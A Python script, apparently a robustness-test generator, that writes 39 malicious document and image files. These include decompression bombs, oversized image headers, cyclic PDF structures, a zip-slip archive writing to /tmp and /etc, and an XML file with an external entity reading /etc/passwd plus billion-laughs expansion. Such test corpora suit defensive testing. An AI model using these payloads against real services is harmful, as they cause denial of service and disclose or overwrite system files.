#!/usr/bin/env python3
"""Writes the 39 bombs: small files that ask for absurd amounts of memory, time or pages.

usage: make_bombs.py OUT [MIXED]

21 PDF, 4 PNG, 5 TIFF, one BMP, one JPEG, and seven archives (a zip that climbs out of its folder, and OFDs: of
512 MiB, with a page of 512 MiB, external and nested entities, 41,000 files, elements 100,000 deep, a drawing that holds
itself ten times). The largest file has 20 MB, all of them together 50 MB. The same bytes every
time. MIXED gets a PDF of three pages of which the second never ends. Python standard library only.
"""
import binascii, os, struct, sys, zipfile, zlib

MIB = 1 << 20


def zeros(count):
    """A zlib stream of so many zero bytes: one compressed mebibyte, repeated, so that a gibibyte is made at once."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(bytes(MIB)) + deflate.flush(zlib.Z_FULL_FLUSH)
    whole, rest = divmod(count, MIB)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = last.compress(bytes(rest)) + last.flush()
    adler = (count % 65521) << 16 | 1
    return b'\x78\xda' + block * whole + tail + struct.pack('>I', adler)


def pdf(objects, root=1, tail=b'', prev=None):
    out, places = bytearray(b'%PDF-1.7\n'), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b'%d 0 obj\n' % number + body + b'\nendobj\n'
    start = len(out)
    out += b'xref\n0 %d\n0000000000 65535 f \n' % (len(objects) + 1) + b''.join(b'%010d 00000 n \n' % p for p in places)
    before = b'/Prev %d' % (start if prev == 'self' else prev) if prev is not None else b''
    out += b'trailer<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n' % (len(objects) + 1, root, before, start)
    return bytes(out) + tail


def stream(body, words=b''):
    return b'<<%s/Length %d>>stream\n' % (words, len(body)) + body + b'\nendstream'


CATALOG = b'<</Type/Catalog/Pages 2 0 R>>'
PAGES = b'<</Type/Pages/Kids[3 0 R]/Count 1>>'


def page(content, resources=b'', box=b'[0 0 595 842]', more=b'', objects=()):
    """One page; its content is object 4, what it needs follows from 5 on."""
    leaf = b'<</Type/Page/Parent 2 0 R/MediaBox%s%s/Contents 4 0 R/Resources<<%s>>>>' % (box, more, resources)
    return pdf([CATALOG, PAGES, leaf, content, *objects])


def picture(width, height, bits):
    row = (width * bits + 7) // 8
    words = b'/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent %d/ColorSpace/DeviceGray/Filter/FlateDecode' % (width, height, bits)
    return page(stream(b'q 595 0 0 842 0 0 cm /I Do Q'), b'/XObject<</I 5 0 R>>', objects=[stream(zeros(row * height), words)])


def text(words=b'Bomb'):
    return b'BT /F 12 Tf 72 700 Td (' + words + b') Tj ET'


FONT = b'<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'


def strokes(distinct, times):
    lines = b''.join(b'%d %d m %d %d l S\n' % (n * 7 % 595, n * 13 % 842, n * 31 % 595, n * 17 % 842) for n in range(distinct))
    return stream(zlib.compress(lines * times, 9), b'/Filter/FlateDecode')


def forms(depth, times):
    """Forms that each draw the next one so many times."""
    form = b'/Type/XObject/Subtype/Form/BBox[0 0 595 842]'
    bodies = [stream(b'/N Do ' * times, form + b'/Resources<</XObject<</N %d 0 R>>>>' % (6 + level)) for level in range(depth - 1)]
    bodies.append(stream(b'0 0 m 9 9 l S ' * times, form))
    return page(stream(b'/N Do'), b'/XObject<</N 5 0 R>>', objects=bodies)


def mixed():
    """Two pages of text and one between them that never ends."""
    leaf = b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents %d 0 R/Resources<</Font<</F 9 0 R>>>>>>'
    pages = b'<</Type/Pages/Kids[3 0 R 4 0 R 5 0 R]/Count 3>>'
    return pdf([CATALOG, pages, leaf % 6, leaf % 7, leaf % 8, stream(text(b'Contract HT-2024-0777, first page')), strokes(500, 8_000),
                stream(text(b'Contract HT-2024-0777, last page')), FONT])


def many_pages(count):
    kids = b' '.join(b'%d 0 R' % (3 + n) for n in range(count))
    leaves = [b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>'] * count
    return pdf([CATALOG, b'<</Type/Pages/Kids[' + kids + b']/Count %d>>' % count, *leaves])


def pdfs():
    gib = 1 << 30
    flate = b'/Filter/FlateDecode'
    yield 'flate-1gib', page(stream(zeros(gib), flate))
    yield 'flate-twice-1gib', page(stream(zlib.compress(zeros(gib), 9), b'/Filter[/FlateDecode/FlateDecode]'))
    yield 'image-gray-40k', picture(40_000, 40_000, 8)
    yield 'image-gray-65k', picture(65_000, 65_000, 8)
    yield 'image-mono-100k', picture(100_000, 100_000, 1)
    font = b'/Font<</F 5 0 R>>'
    yield 'mediabox-1e9', page(stream(text()), font, box=b'[0 0 1000000000 1000000000]', objects=[FONT])
    yield 'userunit-1e9', page(stream(text()), font, more=b'/UserUnit 1000000000', objects=[FONT])
    yield 'mediabox-nan', page(stream(text()), font, box=b'[NaN nan 1e999 -1e999]', objects=[FONT])
    yield 'kids-cycle', pdf([CATALOG, b'<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>'])
    yield 'count-2e9', pdf([CATALOG, b'<</Type/Pages/Kids[3 0 R]/Count 2000000000>>', b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>'])
    yield 'arrays-200k-deep', page(stream(b'[' * 200_000 + b']' * 200_000 + b' 0 d ' + text()), font + b'/Deep' + b'[' * 200_000 + b']' * 200_000, objects=[FONT])
    yield 'saves-500k', page(stream(b'q ' * 500_000 + text()), font, objects=[FONT])
    yield 'forms-12-to-9', forms(9, 12)
    self_form = stream(b'/N Do /N Do', b'/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</N 5 0 R>>>>')
    yield 'form-in-itself', page(stream(b'/N Do'), b'/XObject<</N 5 0 R>>', objects=[self_form])
    yield 'strokes-2m', page(strokes(500, 4_000))
    tile = stream(b'0 0 0.01 0.01 re f', b'/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 0.02 0.02]/XStep 0.02/YStep 0.02/Resources<<>>')
    yield 'tiles-tiny', page(stream(b'/Pattern cs /P scn 0 0 595 842 re f'), b'/Pattern<</P 5 0 R>>', objects=[tile])
    yield 'pages-200k', many_pages(200_000)
    small = page(stream(text(b'Inside')), font, objects=[FONT])
    yield 'inside-4gib', inside([(b'zeros.pdf', zeros(4 * gib), flate)])
    yield 'inside-10k', inside([(b'%d.pdf' % n, small + b'%%%d\n%%%%EOF\n' % n, b'') for n in range(10_000)])
    yield 'inside-names-cycle', inside([], b'6 0 R', [b'<</Kids[6 0 R 6 0 R 6 0 R]>>'])
    yield 'prev-loop', pdf([CATALOG, PAGES, b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>'], prev='self')


def inside(files, tree=None, further=()):
    """A page with files inside it, by name; or with `tree` instead of the list of their names, and objects from 6 on."""
    names, objects = b'', [FONT]
    for name, body, words in files:
        at = 5 + len(objects)
        names += b'(%s)%d 0 R ' % (name, at)
        objects += [b'<</Type/Filespec/F(%s)/EF<</F %d 0 R>>>>' % (name, at + 1), stream(body, b'/Type/EmbeddedFile' + words)]
    leaf = b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>'
    catalog = b'<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles ' + (tree or b'<</Names[' + names + b']>>') + b'>>>>'
    return pdf([catalog, PAGES, leaf, stream(text()), *objects, *further])


def png(width, height, chunks, kind=0):
    def chunk(name, body):
        return struct.pack('>I', len(body)) + name + body + struct.pack('>I', binascii.crc32(name + body))
    head = struct.pack('>IIBBBBB', width, height, 8, kind, 0, 0, 0)
    return b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', head) + b''.join(chunk(n, b) for n, b in chunks) + chunk(b'IEND', b'')


def pngs():
    yield 'pixels-50k', png(50_000, 50_000, [(b'IDAT', zeros(50_001 * 50_000))])
    yield 'header-2e9', png(2_147_483_647, 2_147_483_647, [(b'IDAT', zeros(1_000))])
    yield 'text-1gib', png(64, 64, [(b'zTXt', b'Comment\0\0' + zeros(1 << 30)), (b'IDAT', zeros(65 * 64))])
    yield 'data-1gib', png(64, 64, [(b'IDAT', zeros(1 << 30))])


def directory(width, height, bits, compression, at, length, following):
    tags = [(256, 4, width), (257, 4, height), (258, 3, bits), (259, 3, compression), (262, 3, 0), (273, 4, at), (277, 3, 1), (278, 4, height), (279, 4, length)]
    return struct.pack('<H', len(tags)) + b''.join(struct.pack('<HHII', t, k, 1, v) for t, k, v in tags) + struct.pack('<I', following)


def tiff(width, height, bits, compression, body):
    at = 8 + 2 + 9 * 12 + 4
    return b'II*\0\x08\0\0\0' + directory(width, height, bits, compression, at, len(body), 0) + body


def tiffs():
    loop = tiff(16, 16, 8, 1, bytes(256))
    yield 'directory-loop', loop[:8 + 2 + 9 * 12] + struct.pack('<I', 8) + loop[8 + 2 + 9 * 12 + 4:]
    size = 2 + 9 * 12 + 4
    many = b''.join(directory(16, 16, 8, 1, 8 + 100_000 * size, 256, 8 + (n + 1) * size if n < 99_999 else 0) for n in range(100_000))
    yield 'directories-100k', b'II*\0\x08\0\0\0' + many + bytes(256)
    yield 'pixels-4e9', tiff(4_000_000_000, 4_000_000_000, 8, 1, bytes(64))
    yield 'deflate-1gb', tiff(10_000, 100_000, 8, 8, zeros(1_000_000_000))
    # One bit says "as in the row above": a white page of any height.
    yield 'g4-60k', tiff(60_000, 60_000, 1, 4, b'\xff' * (60_000 // 8) + b'\x00\x10\x01')


def bmp():
    return b'BM' + struct.pack('<IHHI', 62, 0, 0, 62) + struct.pack('<IiiHHIIiiII', 40, 60_000, 60_000, 1, 8, 1, 0, 0, 0, 2, 0) + bytes(8) + b'\0\1' + bytes(64)


def jpeg():
    """A header that promises 65500 x 65500 and a scan that ends at once."""
    tables = b'\xff\xdb\0\x43\0' + b'\1' * 64 + b'\xff\xc4\0\x14\0' + b'\1' + bytes(15) + b'\0' + b'\xff\xc4\0\x14\x10' + b'\1' + bytes(15) + b'\0'
    frame = b'\xff\xc0' + struct.pack('>HBHHB', 11, 8, 65_500, 65_500, 1) + b'\1\x11\0'
    return b'\xff\xd8' + tables + frame + b'\xff\xda\0\x08\1\1\0\0\x3f\0' + bytes(64) + b'\xff\xd9'


def archives(out):
    def write(name, entries):
        path = os.path.join(out, name)
        with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as z:
            for inner, body in entries:
                entry = zipfile.ZipInfo(inner)
                entry.compress_type = zipfile.ZIP_DEFLATED
                with z.open(entry, 'w') as f:
                    for part in body:
                        f.write(part)
    write('zip-slip.zip', [('../../../../tmp/climbed-out.pdf', [b'%PDF-1.4\n']), ('/etc/climbed-out', [b'x'])])
    block = bytes(4 * MIB)
    write('ofd-512mib.ofd', [('OFD.xml', [b'<ofd/>']), ('Doc_0/Pages/Page_0/Content.xml', (block for _ in range(128)))])
    laughs = b''.join(b'<!ENTITY l%d "%s">' % (n, b'&l%d;' % (n - 1) * 10) for n in range(1, 10))
    xml = b'<?xml version="1.0"?><!DOCTYPE o [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY l0 "ha">' + laughs + b']><o>&f;&l9;</o>'
    write('ofd-entities.ofd', [('OFD.xml', [xml])])
    root = ('OFD.xml', [b'<OFD><DocBody><DocRoot>D.xml</DocRoot></DocBody></OFD>'])
    document = ('D.xml', [b'<Document><CommonData><PublicRes>R.xml</PublicRes></CommonData><Pages><Page ID="1" BaseLoc="P.xml"/></Pages></Document>'])
    drawing = b'<CompositeObject ResourceID="9" Boundary="0 0 9 9"/>'
    resources = ('R.xml', [b'<Res><CompositeGraphicUnits><CompositeGraphicUnit ID="9"><Content>' + drawing * 10 + b'</Content></CompositeGraphicUnit></CompositeGraphicUnits></Res>'])
    page = ('P.xml', [b'<Page><Content><Layer>' + drawing + b'</Layer></Content></Page>'])
    write('ofd-page-512mib.ofd', [root, document, ('P.xml', (block for _ in range(128)))])
    write('ofd-files.ofd', [root, document, page, *((f'{n}', [b'']) for n in range(41_000))])
    write('ofd-deep.ofd', [root, ('D.xml', [b'<a>' * 100_000])])
    write('ofd-in-itself.ofd', [root, document, resources, page])


def main():
    if len(sys.argv) not in (2, 3):
        sys.exit(__doc__)
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    made = [('pdf', pdfs()), ('png', pngs()), ('tif', tiffs()), ('bmp', [('pixels-60k', bmp())]), ('jpg', [('header-65500', jpeg())])]
    for ending, files in made:
        for name, body in files:
            with open(os.path.join(out, f'{ending}-{name}.{ending}'), 'wb') as f:
                f.write(body)
    archives(out)
    for path in sys.argv[2:]:
        with open(path, 'wb') as f:
            f.write(mixed())
    print(f'{len(os.listdir(out))} bombs, {sum(e.stat().st_size for e in os.scandir(out)) / 1e6:.1f} MB')


if __name__ == '__main__':
    main()
